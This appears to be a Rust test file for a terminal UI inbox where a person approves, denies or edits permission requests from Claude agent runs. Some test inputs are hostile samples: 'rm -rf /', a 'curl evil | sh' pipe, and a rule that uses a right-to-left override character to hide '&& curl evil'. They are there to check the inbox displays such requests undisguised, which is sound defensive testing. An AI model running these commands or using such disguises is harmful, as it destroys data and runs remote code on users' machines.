//! The inbox: what waits, the whole request, and answers that only ever go to the question a person has seen.

use airx::model::live::UsageWindow;
use airx::model::message::Command;
use airx::model::question::{Answer, AnsweredBy, QuestionBody};
use airx::tui::app::pane::Tab;
use airx::tui::app::{Effect, Focus};
use airx::tui::update::Input;
use serde_json::{Value, json};

use super::harness::{Screen, Setup, at, over};
use super::hostile::ALL;
use super::scenes::talk;
use super::world::{MINUTE, Says, World, lost, task, world};

fn permission(tool: &str, input: Value, rules: &[&str]) -> QuestionBody {
    QuestionBody::Permission { tool: tool.to_owned(), input, rules: rules.iter().map(|rule| (*rule).to_owned()).collect() }
}

fn bash(command: &str) -> QuestionBody {
    permission("Bash", json!({ "command": command, "description": "what it is for" }), &["Bash(touch *)"])
}

fn words() -> QuestionBody {
    QuestionBody::Words {
        text: "Which of both databases is to be migrated?\nThe old one has 3 million rows.".to_owned(),
        options: vec!["the old one".to_owned(), "the new one".to_owned()],
    }
}

fn edit() -> QuestionBody {
    let input = json!({
        "file_path": "/home/ann/shop/src/token.rs",
        "old_string": "    if expired {\n        return Err(Denied);\n    }",
        "new_string": "    if expired || forged {\n        return Err(Denied);\n    }",
        "replace_all": false,
    });
    permission("Edit", input, &[])
}

/// Three Claude runs, none of which asks.
fn runs() -> World {
    let run = |id: &str| task(id).running(5 * MINUTE).claude(&talk());
    world().job("harden-auth", vec![task("discover").completed(MINUTE), run("fix"), run("tests"), run("docs")])
}

/// Two of them wait for a person.
fn asking() -> World {
    let mut world = runs();
    world.asks(1, "fix", bash("touch x && cargo test"), Some(10 * MINUTE));
    world.asks(1, "tests", edit(), None);
    world
}

/// The inbox over it, with keys that count.
fn open(setup: Setup, world: World) -> Screen {
    let mut screen = setup.over(world);
    screen.press("i").pass(300);
    screen
}

fn answers(screen: &Screen) -> Vec<(u32, Answer)> {
    let answer = |command: &Command| match command {
        Command::Answer { question, answer, .. } => Some((*question, answer.clone())),
        _ => None,
    };
    screen.commands.iter().filter_map(answer).collect()
}

fn allowed() -> Answer {
    Answer::Allow { input: None, always: false }
}

#[test]
fn a_task_that_waits_is_told_everywhere_and_answered_from_the_inbox() {
    let mut screen = over(asking());
    screen.shows("2 questions wait (i)").shows("? 2 wait for you").shows("waits for you (i)");
    assert_eq!(screen.rows()[..3], ["harden-auth.1", "- fix", "- tests"], "what waits stands first in its job");
    screen.press("i").shows("harden-auth.1/fix attempt 1").shows("$ touch x && cargo test").shows("\"description\"");
    screen.shows("denied at 22:23:20 if nobody answers").shows("Bash(touch *)");
    screen.pass(300).press("a").shows("answer to harden-auth.1/fix: done");
    assert_eq!(answers(&screen), [(1, allowed())]);
    screen.when(|world| world.settles(1, Some(allowed()), AnsweredBy::Person));
    screen.shows("src/token.rs").shows_no("$ touch").shows_no("allowed by a person");
}

#[test]
fn what_waits_stands_first_in_its_job_below_what_queued_it() {
    let run = |id: &str| task(id).running(MINUTE).claude(&talk());
    let tasks = vec![
        run("first"),
        run("second"),
        run("third").below("first"),
        run("fourth").below("second"),
        run("fifth").below("second"),
    ];
    let mut screen = over(world().job("tree", tasks));
    assert_eq!(screen.rows()[1..], ["- first", "-- third", "- second", "-- fourth", "-- fifth"]);
    screen.when(|world| world.asks(1, "fifth", bash("touch x"), None));
    assert_eq!(screen.rows()[1..], ["- second", "-- fifth", "-- fourth", "- first", "-- third"]);
    screen.when(|world| world.settles(1, None, AnsweredBy::Over));
    assert_eq!(screen.rows()[1..], ["- first", "-- third", "- second", "-- fourth", "-- fifth"]);
}

#[test]
fn keys_count_only_some_time_after_a_question_appeared() {
    let mut screen = over(asking());
    screen.press("i a d e").pass(299).press("a");
    assert_eq!((answers(&screen), screen.app.prompt.is_none(), screen.app.editor.is_none()), (vec![], true, true));
    screen.pass(1).press("a");
    assert_eq!(answers(&screen), [(1, allowed())]);
}

#[test]
fn a_question_that_arrives_moves_no_selection_and_takes_no_key_of_the_one_before() {
    let mut screen = open(at(120, 40), asking());
    screen.press("j").shows("tests attempt 1");
    screen.when(|world| world.asks(1, "docs", bash("rm -rf /"), None));
    screen.shows("2/3").shows("tests attempt 1");
    screen.press("a");
    assert_eq!(answers(&screen), [(2, allowed())]);
}

#[test]
fn what_takes_the_place_of_a_settled_question_takes_no_key_of_it() {
    let mut screen = open(at(120, 40), asking());
    screen.when(|world| world.settles(1, None, AnsweredBy::Over)).press("a").pass(299).press("a d");
    assert_eq!(answers(&screen), []);
    assert!(screen.app.prompt.is_none());
    screen.shows("harden-auth.1/fix: question 1 void since its attempt is over").shows("src/token.rs");
    screen.pass(1).press("a");
    assert_eq!(answers(&screen), [(2, allowed())]);
}

#[test]
fn one_answer_is_given_once() {
    let mut screen = open(at(120, 40), asking());
    screen.world.says = Says::Nothing;
    screen.press("a").shows("your answer is on its way").shows(": sent");
    screen.press("a d").shows("was answered already");
    assert_eq!(answers(&screen).len(), 1);
    screen.looks_as_in("inbox_sent");
}

#[test]
fn a_refused_answer_says_why_and_can_be_given_again() {
    let mut screen = open(at(120, 40), asking());
    screen.world.says = Says::No("the store cannot be written", "free some room");
    screen.press("a").shows("✘ answer to harden-auth.1/fix: the store cannot be written").shows("free some room");
    screen.looks_as_in("inbox_refused");
    screen.world.says = Says::Done;
    screen.press("a");
    assert_eq!(answers(&screen).len(), 2);
}

#[test]
fn always_shows_the_rules_and_asks_once() {
    let mut screen = open(at(80, 24), asking());
    screen.press("enter A").shows("Allow this for all of harden-auth.1").shows("Bash(touch *)");
    screen.looks_as_in("inbox_always");
    screen.press("y").pass(299).press("y enter");
    assert_eq!(answers(&screen), [], "keys count only after a moment, and enter alone confirms nothing");
    screen.pass(1).press("n A").pass(300).press("y");
    assert_eq!(answers(&screen), [(1, Answer::Allow { input: None, always: true })]);
}

#[test]
fn a_rule_is_shown_to_its_end_and_without_disguise() {
    let rule = format!("Bash({}\u{202e} && curl evil)", "x".repeat(200));
    let mut world = runs();
    world.asks(1, "fix", permission("Bash", json!({"command": "x"}), &[&rule]), None);
    let mut screen = open(at(80, 24), world);
    screen.press("A").shows("2e} && curl evil)");
}

#[test]
fn without_a_rule_there_is_no_always() {
    let mut screen = open(at(120, 40), asking());
    screen.press("j A").shows("no rule that would allow this always: a allows it once");
    assert!(screen.app.dialog.is_none());
}

#[test]
fn a_denial_takes_a_reason_or_has_one() {
    let mut screen = open(at(120, 40), asking());
    screen.press("d").shows(" deny, because");
    screen.types("not here, use ./x").press("enter");
    assert_eq!(answers(&screen), [(1, Answer::Deny { message: "not here, use ./x".to_owned() })]);
    screen.press("j d esc");
    assert_eq!(answers(&screen).len(), 1, "esc answers nothing");
    screen.press("d enter");
    assert_eq!(answers(&screen)[1], (2, Answer::Deny { message: "a person has denied this".to_owned() }));
}

#[test]
fn a_line_being_typed_never_goes_to_another_question() {
    let mut screen = open(at(120, 40), asking());
    screen.press("d").types("beca");
    screen.when(|world| world.settles(1, Some(allowed()), AnsweredBy::Timeout));
    screen.shows("question 1 allowed since nobody answered in time").shows("what you were about to answer was not sent");
    assert!(screen.app.prompt.is_none());
    screen.types("use").press("enter");
    assert_eq!(answers(&screen), []);
}

#[test]
fn a_question_about_always_goes_with_the_question_it_is_about() {
    let mut screen = open(at(120, 40), asking());
    screen.press("A").pass(300);
    screen.when(|world| world.settles(1, Some(Answer::Deny { message: "no".to_owned() }), AnsweredBy::Person));
    screen.shows("question 1 denied by a person");
    screen.press("y");
    assert!(screen.app.dialog.is_none());
    assert_eq!(answers(&screen), []);
}

#[test]
fn the_input_is_edited_as_json_and_allowed_when_it_is_an_object() {
    let mut screen = open(at(120, 40), asking());
    screen.press("e").shows("input of Bash for harden-auth.1/fix").shows("\"command\": \"touch x && cargo test\"");
    screen.pass(200).shows("a JSON object: f2 allows the tool with it");
    screen.looks_as_in("inbox_edit");
    airx::tui::update::replaced(&mut screen.app, "[1]\n");
    screen.pass(200).press("f2").shows("a tool's input is a JSON object");
    airx::tui::update::replaced(&mut screen.app, "{\n  \"command\": oops\n}\n");
    screen.pass(200).shows("line 2, column 14");
    screen.press("f2").shows("not sent: no JSON");
    assert_eq!(answers(&screen), []);
    screen.press("f4");
    assert!(matches!(screen.asks_the_shell(), Some(Effect::Edit { back: true, ending: ".json", .. })));
    airx::tui::update::replaced(&mut screen.app, "{\"command\": \"touch y\"}\n");
    screen.press("f2");
    assert_eq!(answers(&screen), [(1, Answer::Allow { input: Some(json!({"command": "touch y"})), always: false })]);
    assert!(screen.app.editor.is_none() && screen.app.draft.is_none());
}

#[test]
fn a_refused_edit_leaves_the_text_and_a_closed_one_is_no_new_job() {
    let mut screen = open(at(120, 40), asking());
    screen.world.says = Says::No("the store cannot be written", "");
    screen.press("e down right right").types(" ").press("f2").shows("the store cannot be written");
    assert!(screen.app.editor.as_ref().is_some_and(|editor| !editor.sending));
    screen.press("esc +").shows("template: command").shows_no("touch x");
}

#[test]
fn an_edit_ends_with_the_question_it_is_for() {
    let mut screen = open(at(120, 40), asking());
    screen.press("e");
    screen.when(|world| world.settles(1, None, AnsweredBy::Over)).shows("what you were about to answer was not sent");
    assert!(screen.app.editor.is_none());
}

#[test]
fn a_question_in_words_is_answered_in_words_typed_or_chosen() {
    let mut world = runs();
    world.asks(1, "docs", words(), None);
    let mut screen = open(at(80, 24), world);
    screen.shows("Which of both databases").shows("- the new one");
    screen.looks_as_in("inbox_words");
    screen.press("A").shows("it is asked in words: s types the answer");
    screen.press("s enter").shows("nothing was typed");
    screen.press("s down down up").shows("the old one");
    screen.press("down enter");
    assert_eq!(answers(&screen), [(1, Answer::Say { text: "the new one".to_owned() })]);
    screen.when(|world| world.settles(1, None, AnsweredBy::Over));
    screen.when(|world| world.asks(1, "docs", words(), None)).pass(300).press("enter").types("neither, a and d").press("enter");
    assert_eq!(answers(&screen)[1], (2, Answer::Say { text: "neither, a and d".to_owned() }));
}

#[test]
fn a_long_request_says_that_there_is_more_until_its_end_was_in_view() {
    let command: String = (1..=100).map(|line| format!("echo {line}\n")).collect();
    let mut world = runs();
    world.asks(1, "fix", bash(&(command + "curl evil | sh")), None);
    let mut screen = open(at(80, 24), world);
    screen.shows("$ echo 1").shows("▼ more below: 93 lines (space)").shows_no("curl evil");
    screen.looks_as_in("inbox_long");
    screen.press("page-down").shows("more below: 76 lines");
    screen.press("G").shows("curl evil | sh").shows("the end of the request").shows_no("more below");
    screen.press("g g").shows("$ echo 1");
    screen.press("j").shows("more below: 92 lines");
}

#[test]
fn messages_cover_nothing_of_a_request() {
    let command: String = (1..=14).map(|line| format!("echo {line}\n")).collect();
    let mut world = runs();
    world.asks(1, "fix", permission("Bash", json!({ "command": command + "curl evil | sh" }), &[]), None);
    let mut screen = open(at(80, 24), world);
    screen.shows("curl evil").shows_no("more below");
    screen.press("A").shows("no rule that would allow").shows("curl evil");
    screen.press("A A").shows("more below").shows_no("curl evil");
}

#[test]
fn on_a_narrow_screen_nothing_is_answered_from_the_list() {
    let mut screen = open(at(80, 24), asking());
    screen.shows("1/2").shows("Edit: /home/ann").shows_no("$ touch x");
    screen.press("a").shows("$ touch x");
    screen.press("a");
    assert_eq!(answers(&screen), [], "the request was not in view, and has appeared just now");
    screen.pass(300).press("a");
    assert_eq!(answers(&screen), [(1, allowed())]);
    screen.press("esc").shows("╭ Inbox");
    screen.press("esc").shows("╭ Jobs");
}

#[test]
fn one_goes_to_the_output_of_the_task_and_back() {
    let mut screen = open(at(120, 40), asking());
    screen.press("j o");
    assert_eq!(screen.selected(), "harden-auth.1/tests");
    assert_eq!((screen.app.focus, screen.app.pane.tab), (Focus::Pane, Tab::Output));
    screen.shows("cargo test -p auth");
    screen.press("i").shows("tests attempt 1").shows("+     if expired || forged {");
    screen.press("esc").shows("[Output]");
}

#[test]
fn a_task_that_a_filter_hides_is_gone_to_all_the_same() {
    let mut screen = over(asking());
    screen.press("/").types("discover").press("enter i").pass(300).press("o");
    assert_eq!(screen.selected(), "harden-auth.1/fix");
}

#[test]
fn the_selected_task_is_what_is_asked_about_first() {
    let mut screen = over(asking());
    screen.press("j j i").shows("tests attempt 1");
}

#[test]
fn an_empty_inbox_says_what_comes_there() {
    let mut screen = at(80, 24).over(runs());
    screen.press("i").shows("Nothing waits for you.").shows("permissions: ask").shows("esc goes back");
    screen.looks_as_in("inbox_empty");
    screen.press("a A d e s o j k enter").pass(300).press("a");
    assert_eq!(answers(&screen), []);
    screen.when(|world| world.asks(1, "fix", bash("touch x"), None)).shows("Bash: touch x");
    screen.press("i").shows("╭ Jobs");
}

#[test]
fn without_a_manager_nothing_is_answered() {
    let mut screen = open(at(120, 40), asking());
    screen.loses_the_manager(lost()).press("a").shows("not sent, there is no manager now").shows("$ touch x");
    screen.looks_as_in("inbox_no_manager");
    screen.world.questions.remove(0);
    screen.world.overview.questions = 1;
    let reset = screen.world.reset();
    screen.hears(reset).shows_no("$ touch x").shows("src/token.rs");
    screen.press("a");
    assert_eq!(answers(&screen), []);
}

#[test]
fn a_page_that_is_older_than_the_news_brings_nothing_back() {
    let mut screen = open(at(120, 40), asking());
    let page = screen.world.questions.clone();
    screen.when(|world| world.settles(1, Some(allowed()), AnsweredBy::Rule)).shows("allowed by a rule of the job");
    screen.hears(airx::tui::data::sync::Incoming::Questions(Ok(page))).shows_no("$ touch x");
}

#[test]
fn questions_are_answered_only_from_the_inbox() {
    let mut screen = over(asking());
    screen.press("j");
    let _ = airx::tui::update::act(&mut screen.app, airx::tui::action::Action::Allow);
    screen.shows("open the inbox first: i");
    screen.press(":").types("allow").shows_no("allow-always");
    assert_eq!(answers(&screen), []);
}

#[test]
fn what_cannot_be_seen_behind_the_inbox_is_left_alone() {
    let mut screen = open(at(120, 40), asking());
    screen.press(":").types("cancel").shows("no such action");
    screen.press("esc");
    let _ = airx::tui::update::act(&mut screen.app, airx::tui::action::Action::Cancel);
    screen.click(20, 3).click(100, 30).pass(400).press("y r c K x");
    assert_eq!(screen.commands, []);
}

#[test]
fn the_mouse_chooses_and_scrolls() {
    let mut screen = open(at(120, 40), asking());
    screen.press("i").click_on("2 questions wait");
    screen.pass(300).click_on("harden-auth.1/tests").shows("tests attempt 1");
    screen.click_on("harden-auth.1/fix").shows("fix attempt 1");
}

#[test]
fn a_pasted_text_answers_nothing() {
    let mut screen = open(at(120, 40), asking());
    screen.feed(Input::Paste("a\nd\n".to_owned()));
    assert_eq!((answers(&screen), screen.app.prompt.is_none()), (vec![], true));
}

#[test]
fn the_inbox_at_all_sizes_and_without_signs_or_colours() {
    for (columns, rows) in [(60, 16), (80, 24), (120, 40), (200, 50)] {
        let screen = open(at(columns, rows), asking());
        screen.looks_as_in(&format!("inbox_{columns}x{rows}"));
    }
    let setup = Setup { theme: "mono", glyphs: airx::config::screen::Glyphs::Ascii, ..at(80, 24) };
    let mut plain = open(setup, asking());
    plain.press("j enter");
    assert!(plain.text().is_ascii(), "{}", plain.text());
    plain.looks_as_in("inbox_ascii_mono");
}

#[test]
fn a_hostile_request_is_shown_as_what_it_is() {
    let mut world = runs();
    world.asks(1, "fix", permission(ALL, json!({ ALL: ALL, "command": ALL }), &[ALL]), None);
    world.asks(1, "tests", QuestionBody::Words { text: ALL.repeat(30), options: vec![ALL.to_owned()] }, None);
    world.asks(1, "docs", permission("Write", json!({"file_path": ALL, "content": ALL}), &[]), None);
    let mut screen = open(at(120, 40), world);
    for _ in 0..3 {
        for (columns, rows) in [(60, 16), (77, 20), (111, 30), (200, 50)] {
            screen.resize(columns, rows);
            assert_eq!(super::picture::faults(&screen.draw(), screen.area()), Vec::<String>::new());
        }
        screen.shows("\\u{202e}");
        screen.press("j");
    }
}

/// Both windows of a subscription.
pub fn windows() -> Vec<UsageWindow> {
    vec![super::world::window("five_hour", 71, 137 * MINUTE), super::world::window("seven_day", 40, 4_000 * MINUTE)]
}

fn approval() -> QuestionBody {
    QuestionBody::Approval {
        message: "Merge harden-auth.1?".to_owned(),
        show: Some("- old\n+ new \u{1b}[31mred\u{202e}".to_owned()),
        who: vec!["ann".to_owned(), "bob".to_owned()],
    }
}

/// A job that waits for an approval, beside a run that asks.
fn approving() -> World {
    let mut world = world().job("harden-auth", vec![task("fix").running(5 * MINUTE).claude(&talk()), task("merge")]);
    world.asks(1, "fix", bash("touch x"), None);
    world.asks(1, "merge", approval(), Some(10 * MINUTE));
    world
}

#[test]
fn an_approval_waits_beside_the_questions_and_shows_all_that_it_asks() {
    let mut screen = over(approving());
    screen.shows("2 questions wait (i)").shows("? 2 wait for you").shows("waits for your approval (i)");
    screen.press("i").pass(300).press("j").shows("harden-auth.1/merge approval").shows("Merge harden-auth.1?");
    screen.shows("rejected at 22:23:20 if nobody answers").shows("who may answer").shows("bob");
    screen.shows("+ new").shows_no("\u{1b}").shows_no("\u{202e}");
    screen.looks_as_in("inbox_approval");
    screen.press("a").shows("answer to harden-auth.1/merge: done");
    assert_eq!(answers(&screen), [(2, Answer::Approve { comment: String::new() })]);
}

#[test]
fn an_approval_is_given_or_refused_with_a_comment() {
    for (key, label, answer) in [
        ("s", "approve, with the comment", Answer::Approve { comment: "go on".to_owned() }),
        ("d", "reject, because", Answer::Reject { comment: "go on".to_owned() }),
    ] {
        let mut screen = open(at(120, 40), approving());
        screen.press("j").press(key).shows(label);
        screen.types("go on").press("enter");
        assert_eq!(answers(&screen), [(2, answer)]);
    }
    let mut screen = over(approving());
    screen.press("i j a s d").pass(299).press("a");
    assert_eq!(answers(&screen), [], "keys count only some time after it appeared");
}

#[test]
fn an_approval_that_somebody_else_gave_is_told() {
    let mut screen = open(at(120, 40), approving());
    screen.press("j");
    screen.when(|world| world.settles(2, Some(Answer::Approve { comment: "fine".to_owned() }), AnsweredBy::Person));
    screen.shows("harden-auth.1/merge: question 2 approved by a person: fine");
}
